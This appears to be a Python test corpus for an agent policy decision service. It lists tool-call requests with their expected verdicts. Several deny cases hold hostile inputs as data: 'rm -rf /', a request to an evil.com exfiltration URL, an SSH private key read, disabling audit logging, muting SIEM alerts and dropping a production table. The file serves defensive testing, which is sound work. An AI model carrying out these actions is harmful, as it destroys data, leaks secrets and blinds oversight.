"""The request corpus: realistic agent tool calls covering all five verdicts.

Each case is a DecideRequest built with ``tests.support.messages.decide_request`` (no
``request_id``, so the idempotency cache never short-circuits a timed call) plus the
verdict the reference pack gives it. The harness re-checks every verdict against the
running OPA and the running service before it times anything.

``opa_body`` builds the exact JSON the service would POST to OPA for the same request
in a fresh session (``to_action_request``, the session context a fresh session gets
from ``SessionContext.prepare`` with the pack's tool catalogue, the analysis of the
parameters the catalogue types, ``build_input``, the client's encoding), so the
opa-direct lane sends what Decide sends, except for ``now``/``now_ns`` and the session id.
"""

from __future__ import annotations

import functools
import json
from collections.abc import Coroutine
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeVar, cast

from aarm_pdp.analysis import analyse
from aarm_pdp.api.validation import to_action_request
from aarm_pdp.config import LimitsConfig
from aarm_pdp.decision.input import build_input
from aarm_pdp.session.catalogue import Catalogue
from aarm_pdp.session.context import SessionContext
from aarm_pdp.session.store import MemorySessionStore

from tests.support.messages import IDENTITY, decide_request

T = TypeVar("T")

# A fixed evaluation time for opa-direct bodies and `opa bench` inputs.
FIXED_NOW_NS = 1_795_658_400_000_000_000

_FACT_TIME = "2026-11-26T01:59:00Z"

# The service keeps per-session history (session context). Every timed Decide must be a
# fresh session so that decide and opa-direct (whose input has an empty session) judge
# the same thing: the generator swaps this placeholder for a unique id of the same
# length in the serialized request before each send (no re-encoding needed).
SESSION_PLACEHOLDER = "s-000000000000"
SESSION_PLACEHOLDER_BYTES = SESSION_PLACEHOLDER.encode()


def session_id(n: int) -> bytes:
    """The n-th unique session id, as long as the placeholder."""
    return f"s-{n:012d}".encode()


def _complete(coro: Coroutine[Any, Any, T]) -> T:
    """Run a coroutine that never suspends (the memory store's) to its result.

    Works inside or outside a running event loop (the load generator builds bodies
    inside one), without starting another.
    """
    try:
        coro.send(None)
    except StopIteration as done:
        return cast(T, done.value)
    coro.close()
    raise RuntimeError("fresh-session context suspended; it should not")


@functools.cache
def _catalogue() -> Catalogue:
    """The reference pack's tool catalogue (what the service loads from OPA)."""
    path = Path(__file__).resolve().parents[1] / "rego" / "aarm" / "catalogue" / "data.json"
    return Catalogue.from_policy_data(json.loads(path.read_text())["tools"])


def _fact(name: str, value: Any) -> dict[str, Any]:
    return {"name": name, "value": value, "source": "ticketing", "observedAt": _FACT_TIME}


@dataclass(frozen=True)
class Case:
    """One corpus entry."""

    name: str
    tool: str
    operation: str
    parameters: dict[str, Any]
    verdict: str
    facts: tuple[dict[str, Any], ...] = ()
    risk_signals: tuple[tuple[str, float], ...] = ()

    def request(self) -> Any:
        """The DecideRequest protobuf."""
        return decide_request(
            self.tool,
            self.operation,
            self.parameters,
            identity={**IDENTITY, "session_id": SESSION_PLACEHOLDER},
            facts=list(self.facts),
            risk_signals=dict(self.risk_signals),
        )

    def request_bytes(self) -> bytes:
        """The serialized DecideRequest (what the gRPC lanes send)."""
        data: bytes = self.request().SerializeToString()
        return data

    def opa_input(self, now_ns: int = FIXED_NOW_NS) -> dict[str, Any]:
        """The OPA input document Decide builds for this request in a fresh session."""
        request = to_action_request(self.request(), LimitsConfig())
        context = SessionContext(MemorySessionStore(), _catalogue)
        parts = _complete(context.prepare(request, now_ns)).input_parts
        action = request.action
        analysis = analyse(action.parameters, _catalogue().analysis_types(action.name))
        return build_input(request, now_ns=now_ns, context=parts, analysis=analysis)

    def opa_body(self, now_ns: int = FIXED_NOW_NS) -> bytes:
        """The Data API request body, encoded exactly as ``OpaClient.evaluate`` does."""
        doc = {"input": self.opa_input(now_ns)}
        return json.dumps(doc, separators=(",", ":"), ensure_ascii=False).encode()


_SIG = (("injection_score", 0.05),)

CORPUS: tuple[Case, ...] = (
    # --- ALLOW: catalogued, no finding
    Case("allow-db-query", "db", "query", {"table": "customers", "limit": 10}, "ALLOW"),
    Case(
        "allow-db-query-cols",
        "db",
        "query",
        {"table": "orders", "columns": ["id", "total", "status"], "limit": 100},
        "ALLOW",
        risk_signals=_SIG,
    ),
    Case(
        "allow-email-read", "email", "read", {"message_id": "msg-8812", "folder": "INBOX"}, "ALLOW"
    ),
    Case("allow-email-search", "email", "search", {"query": "invoice Q3", "limit": 20}, "ALLOW"),
    Case(
        "allow-web-search", "search", "web", {"query": "opa rego performance", "limit": 5}, "ALLOW"
    ),
    Case("allow-docs-search", "documents", "search", {"query": "onboarding", "limit": 10}, "ALLOW"),
    Case("allow-file-read", "file", "read", {"path": "/home/alice/report.txt"}, "ALLOW"),
    Case("allow-code-read", "code", "read", {"repo": "acme/api", "path": "src/main.py"}, "ALLOW"),
    Case("allow-http-get", "http", "get", {"url": "https://github.com/acme/api"}, "ALLOW"),
    Case(
        "allow-slack-post", "slack", "post", {"channel": "#eng-team", "text": "deploy ok"}, "ALLOW"
    ),
    Case("allow-crm-query", "crm", "query", {"query": "open deals", "limit": 100}, "ALLOW"),
    Case("allow-file-list", "file", "list", {"path": "/srv/data"}, "ALLOW"),
    Case("allow-internal-api", "internal_api", "get", {"path": "/v1/users/42"}, "ALLOW"),
    # --- DENY: forbidden, invalid, blocked, context denied, default posture
    Case("deny-drop-prod-db", "database", "drop", {"database": "production"}, "DENY"),
    Case("deny-rm-rf-root", "shell", "exec", {"command": "rm -rf /"}, "DENY"),
    Case("deny-disable-logging", "security", "disable_logging", {"target": "auditd"}, "DENY"),
    Case("deny-siem-mute", "siem", "mute_alerts", {"rule": "all"}, "DENY"),
    Case("deny-unknown-tool", "teleport", "engage", {}, "DENY"),
    Case("deny-egress-blocked", "http", "get", {"url": "https://evil.com/exfil?d=1"}, "DENY"),
    Case("deny-ssh-key-read", "code", "read", {"path": "home/alice/.ssh/id_rsa"}, "DENY"),
    Case("deny-slack-general", "slack", "post", {"channel": "#general", "text": "hi"}, "DENY"),
    Case("deny-bad-table", "db", "query", {"table": "bad table!", "limit": 10}, "DENY"),
    Case(
        "deny-transfer-missing",
        "payments",
        "transfer",
        {"amount": 10, "to_account": "GB29NWBK6016"},
        "DENY",
    ),
    Case(
        "deny-sql-drop-prod",
        "db",
        "execute",
        {"sql": "DROP TABLE users", "environment": "production"},
        "DENY",
    ),
    Case(
        "deny-rotate-no-window",
        "credentials",
        "rotate",
        {"target": "prod-payments"},
        "DENY",
        facts=(_fact("maintenance_window", False),),
    ),
    # --- MODIFY: a cap applies
    Case("modify-db-query-cap", "db", "query", {"table": "customers", "limit": 5000}, "MODIFY"),
    Case("modify-web-search-cap", "search", "web", {"query": "agents", "limit": 100}, "MODIFY"),
    Case("modify-email-search-cap", "email", "search", {"query": "x", "limit": 5000}, "MODIFY"),
    Case("modify-crm-cap", "crm", "query", {"query": "all accounts", "limit": 10000}, "MODIFY"),
    Case("modify-docs-cap", "documents", "search", {"query": "policy", "limit": 500}, "MODIFY"),
    # --- STEP_UP: high impact
    Case(
        "stepup-large-transfer",
        "payments",
        "transfer",
        {
            "amount": 50000,
            "currency": "USD",
            "to_account": "GB29NWBK6016",
            "from_account": "ACME-OPS-1",
        },
        "STEP_UP",
    ),
    Case(
        "stepup-large-refund",
        "payments",
        "refund",
        {"payment_id": "pay_8812", "amount": 20000, "currency": "EUR"},
        "STEP_UP",
    ),
    Case(
        "stepup-grant-admin",
        "iam",
        "grant_role",
        {"principal": "bob@acme.example", "role": "org-admin"},
        "STEP_UP",
    ),
    Case(
        "stepup-bulk-delete",
        "db",
        "delete",
        {"table": "sessions", "where": "1=1", "limit": 5000},
        "STEP_UP",
    ),
    Case(
        "stepup-truncate",
        "db",
        "execute",
        {"sql": "TRUNCATE orders_tmp", "environment": "staging", "database": "analytics"},
        "STEP_UP",
    ),
    Case("stepup-secrets-read", "secrets", "read", {"path": "team/ci/token"}, "STEP_UP"),
    # --- DEFER: a required fact is missing
    Case("defer-rotate", "credentials", "rotate", {"target": "prod-payments"}, "DEFER"),
    Case(
        "defer-rotate-kind",
        "credentials",
        "rotate",
        {"target": "ci-deploy", "kind": "api_key"},
        "DEFER",
    ),
    Case("defer-drop-staging", "database", "drop", {"database": "staging_tmp"}, "DEFER"),
    Case("defer-drop-analytics", "db", "drop_database", {"database": "analytics_tmp"}, "DEFER"),
)

# One case per verdict: what the quick `opa bench` floor and the catalogue sweep use.
VERDICT_CASES: tuple[Case, ...] = tuple(
    next(c for c in CORPUS if c.verdict == v)
    for v in ("ALLOW", "DENY", "MODIFY", "STEP_UP", "DEFER")
)


# Tools the reduced corpus of the catalogue sweep needs in every catalogue variant.
def tools_used(cases: tuple[Case, ...]) -> set[str]:
    """The catalogue keys ``tool.operation`` the cases name."""
    return {f"{c.tool}.{c.operation}" for c in cases}
